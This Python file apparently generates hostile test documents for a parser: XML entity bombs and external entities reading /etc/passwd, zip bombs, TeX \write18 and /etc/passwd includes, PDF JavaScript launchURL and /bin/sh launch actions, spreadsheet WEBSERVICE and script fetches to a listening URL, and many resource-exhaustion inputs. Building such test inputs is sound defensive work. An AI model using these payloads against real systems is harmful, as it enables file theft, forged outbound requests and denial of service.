# ruff: noqa: E501  # documents are quoted as they are
"""Documents that want to harm their reader, each made in a few lines."""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from collections.abc import Callable, Iterator

TYPES = "application/vnd.openxmlformats-officedocument"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def packed(parts: dict[str, bytes], bomb: str = "", size: int = 0) -> bytes:
    """An archive of the parts, and of one that is so many mebibytes of nothing."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        if bomb:
            with archive.open(bomb, "w", force_zip64=True) as file:
                for _ in range(size):
                    file.write(b" " * 2**20)
    return out.getvalue()


def word(
    body: str, *, more: dict[str, bytes] | None = None, relations: str = "", head: str = "", bomb: int = 0
) -> bytes:
    """A Word document with a body of XML."""
    main = f"{TYPES}.wordprocessingml.document.main+xml"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{package}/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'.encode(),
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/_rels/document.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships">'
        f"{relations}</Relationships>".encode(),
        "word/document.xml": f'<?xml version="1.0"?>{head}<w:document {W}><w:body>{body}</w:body></w:document>'.encode(),
    }
    return packed(parts | (more or {}), "word/media/a.xml" if bomb else "", bomb)


def workbook(sheet: str, head: str = "") -> bytes:
    """An Excel workbook with a sheet of XML."""
    import openpyxl

    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    with zipfile.ZipFile(out) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/worksheets/sheet1.xml"] = (
        f'<?xml version="1.0"?>{head}<worksheet xmlns="{space}"><sheetData>{sheet}</sheetData></worksheet>'.encode()
    )
    return packed(parts)


def pdf(objects: list[bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of the objects, numbered from 1."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, more: bytes = b"", *, times: int = 1) -> bytes:
    """A packed stream; of data so many times over, packed twice."""
    packer = zlib.compressobj(9)
    inner = b"".join([packer.compress(data) for _ in range(times)] + [packer.flush()])
    if times > 1:
        inner = zlib.compress(inner, 9)
    filters = b"/FlateDecode " * (2 if times > 1 else 1)
    return b"<< /Length %d /Filter [%s] %s >>\nstream\n%s\nendstream" % (len(inner), filters, more, inner)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def one_page(
    content: bytes, more: bytes = b"", extra: list[bytes] | None = None, catalog: bytes = CATALOG
) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> >>"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf([catalog, pages, page % more, content, FONT, *(extra or [])])


TEXT = b"BT /F 12 Tf 72 700 Td (Words of a page that can be read by anyone.) Tj ET"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BOMB = f'<!DOCTYPE article [<!ENTITY l0 "lol">{LAUGHS}]>'
_TABLE = "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>"


def _ten_thousand_pages() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>"
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 10_005))
    pages = b"<< /Type /Pages /Kids [%s] /Count 10000 >>" % kids
    return pdf([CATALOG, pages, stream(TEXT), FONT, *[page] * 10_000])


def _encrypted() -> bytes:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("secret", canPrint=0))
    canvas.drawString(72, 700, "secret words")
    canvas.save()
    return out.getvalue()


def _notebook(cells: list[object]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def _code(outputs: list[object]) -> dict[str, object]:
    return {"cell_type": "code", "source": "x", "metadata": {}, "execution_count": 1, "outputs": outputs}


def _lying() -> bytes:
    """An archive whose part is longer than it says."""
    data = bytearray(word(f"<w:p><w:r><w:t>{'x' * 50_000}</w:t></w:r></w:p>"))
    where = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    data[where + 24 : where + 28] = (100).to_bytes(4, "little")
    return bytes(data)


#: Documents by what they try, with the end of their names.  ``URL`` stands for an address that listens.
DOCUMENTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "entities that grow ten times each": (".nxml", lambda: f"{BOMB}<article><body><p>&l11;</p></body></article>".encode()),
    "an entity repeated over and over": (
        ".xml",
        lambda: f'<!DOCTYPE article [<!ENTITY a "{"a" * 100_000}">]><article><p>{"&a;" * 100_000}</p></article>'.encode(),
    ),
    "an entity that is a file": (
        ".xml", lambda: b'<!DOCTYPE article [<!ENTITY f SYSTEM "file:///etc/passwd">]><article><p>&f; words</p></article>'
    ),
    "an entity that is an address": (
        ".xml", lambda: b'<!DOCTYPE article [<!ENTITY f SYSTEM "URL/e">]><article><p>&f; words</p></article>'
    ),
    "a parameter entity that is an address": (
        ".nxml", lambda: b'<!DOCTYPE article [<!ENTITY % f SYSTEM "URL/p"> %f;]><article><p>words</p></article>'
    ),
    "a document type that is an address": (
        ".nxml", lambda: b'<!DOCTYPE article SYSTEM "URL/d.dtd"><article><p>words</p></article>'
    ),
    "an inclusion of a file": (
        ".xml", lambda: b'<article xmlns:xi="http://www.w3.org/2001/XInclude"><p>words'
        b'<xi:include href="file:///etc/passwd" parse="text"/></p></article>'
    ),
    "a style sheet that is an address": (
        ".xml", lambda: b'<?xml-stylesheet type="text/xsl" href="URL/s.xsl"?><article><p>words</p></article>'
    ),
    "a Word document of entities": (".docx", lambda: word("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", head=BOMB)),
    "a workbook of entities": (".xlsx", lambda: workbook('<row r="1"><c r="A1" t="str"><v>&l11;</v></c></row>', BOMB)),
    "a Word document that unpacks to a gigabyte": (".docx", lambda: word("", bomb=1024)),
    "a workbook that unpacks to much": (".xlsx", lambda: packed({}, "xl/workbook.xml", 400)),
    "archives in archives": (".docx", lambda: packed({f"{n}.zip": packed({"a": b"\0" * 2**20}) for n in range(100)})),
    "a part longer than it says": (".docx", _lying),
    "a Word document with links to the outside": (
        ".docx", lambda: word("<w:p><w:r><w:t>words</w:t></w:r></w:p>", relations='<Relationship Id="rId9" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="URL/t.dotm"/>')
    ),
    "a Word document with macros": (
        ".docm", lambda: word("<w:p><w:r><w:t>words</w:t></w:r></w:p>", more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})
    ),
    "tables in tables of a Word document": (
        ".docx", lambda: word("<w:tbl><w:tr><w:tc>" * 3_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3_000)
    ),
    "a workbook of a million rows": (
        ".xlsx", lambda: workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    ),
    "a workbook that asks the network": (
        ".xlsx", lambda: workbook('<row r="1"><c r="A1"><f>WEBSERVICE("URL/w")</f><v>1</v></c><c r="B1"><v>2</v></c></row>')
    ),
    "an include of a file of the system": (".tex", lambda: b"\\input{/etc/passwd} words \\include{../../etc/passwd}"),
    "commands that grow without end": (
        ".tex", lambda: "".join(
            rf"\newcommand{{\x{chr(98 + n)}}}{{{(chr(92) + 'x' + chr(97 + n) + '{}') * 40}}}" "\n" for n in range(12)
        ).encode() + rb"\newcommand{\xa}{lol}\begin{document}\xm\end{document}"
    ),
    "a command that means itself": (".tex", lambda: rb"\newcommand{\x}{\x\x\x} \x words"),
    "a table of a million columns": (
        ".tex", lambda: rb"\begin{tabular}{c}" + b"a & " * 1_000_000 + rb"\\ b & c \\ \end{tabular}"
    ),
    "braces in braces": (".tex", lambda: b"words " + b"{" * 100_000 + b"x" + b"}" * 100_000),
    "environments in environments": (".tex", lambda: rb"\begin{table}\begin{tabular}{c}" * 50_000),
    "commands without arguments": (".tex", lambda: rb"\newcommand{" * 100_000 + rb"\multicolumn{9" * 50_000),
    "a program that TeX would run": (".tex", lambda: rb"\immediate\write18{touch /tmp/owned} \openout1=/tmp/owned words"),
    "a cell over a milliard of columns": (
        ".html", lambda: b"<table>" + b'<tr><td colspan="1000000000" rowspan="1000000000">x</td><td>y</td></tr>' * 500 + b"</table>"
    ),
    "a page nested very deeply": (".html", lambda: b"<div>" * 100_000 + b"words"),
    "tables in tables of a page": (".html", lambda: b"<table><tr><td>" * 100_000 + b"words"),
    "a page of scripts": (
        ".html", lambda: f"<script src='URL/a.js'></script><iframe src='URL/f'></iframe><img src='URL/i.png' onerror='x()'>"
        f"<link rel=stylesheet href='URL/c.css'><meta http-equiv=refresh content='0;url=URL/r'><p>words</p>{_TABLE}".encode()
    ),
    "a million marks that do not end": (".html", lambda: b"<td <b <table <!-- <p " * 200_000 + b"words"),
    "ten thousand pages": (".pdf", _ten_thousand_pages),
    "pages that are their own parents": (
        ".pdf", lambda: pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
                             b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R /Count 9 >>"])
    ),
    "a stream that unpacks to gigabytes": (".pdf", lambda: one_page(stream(b"q Q " * 2**18, times=1024))),
    "a picture of a milliard of points": (
        ".pdf", lambda: one_page(stream(b"q 600 0 0 700 0 0 cm /I Do Q"), b"/XObject << /I 6 0 R >>", [stream(
            b"\0" * 10_000, b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB")])
    ),
    "forms that draw themselves": (
        ".pdf", lambda: one_page(stream(TEXT + b" /X Do /X Do"), b"/XObject << /X 6 0 R >>", [stream(
            b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")])
    ),
    "a page of millions of letters": (".pdf", lambda: one_page(stream(b"BT /F 1 Tf " + b"(abcdefghij klmnop) Tj " * 300_000 + b"ET"))),
    "a page of a million lines": (".pdf", lambda: one_page(stream(TEXT + b" 0 0 m 500 0 l S 0 0 m 0 500 l S" * 500_000))),
    "an encrypted document": (".pdf", _encrypted),
    "a truncated document": (".pdf", lambda: one_page(stream(TEXT))[:300]),
    "a document with scripts and launches": (
        ".pdf", lambda: one_page(stream(TEXT), catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS "
        b"(app.launchURL('URL/j')) >> /AA << /O << /S /Launch /F (/bin/sh) >> >> /URI << /Base (URL/) >> >>")
    ),
    "references that go in circles": (
        ".pdf", lambda: pdf([b"2 0 R", b"3 0 R", b"1 0 R"])
    ),
    "a notebook of a million outputs": (
        ".ipynb", lambda: _notebook([_code([{"output_type": "stream", "name": "stdout", "text": "x"}] * 400_000)])
    ),
    "a notebook nested very deeply": (".ipynb", lambda: b'{"nbformat": 4, "cells": ' + b"[" * 200_000),
    "a notebook of scripts": (
        ".ipynb", lambda: _notebook([_code([{"output_type": "display_data", "metadata": {}, "data": {
            "text/html": f"<script>fetch('URL/n')</script>{_TABLE}", "application/javascript": "alert(1)"}}])])
    ),
    "a text of bars": (".md", lambda: b"|" * 3_000_000 + b"\n|---|\n" + b"|a" * 100_000),
    "a text of brackets": (".txt", lambda: (b"[(" * 200_000 + b"\n") * 5 + b"  ( " * 300_000),
    "a text of links and stars": (".md", lambda: b"[](" * 100_000 + b"*_" * 200_000 + b"$" * 100_000),
    "a text of tables that nearly are": (".rst", lambda: (b"+--+--+\n| a\n" * 50_000) + b"== ==\n" * 50_000),
    "a million columns": (".csv", lambda: b"a," * 1_000_000 + b"\n" + b"1," * 1_000_000),
    "quotation marks that never end": (".csv", lambda: b'a,b\n"' + b"x,\n" * 500_000),
}  # fmt: skip


def documents(url: str) -> Iterator[tuple[str, str, bytes]]:
    for name, (ending, make) in DOCUMENTS.items():
        yield name, ending, make().replace(b"URL", url.encode())
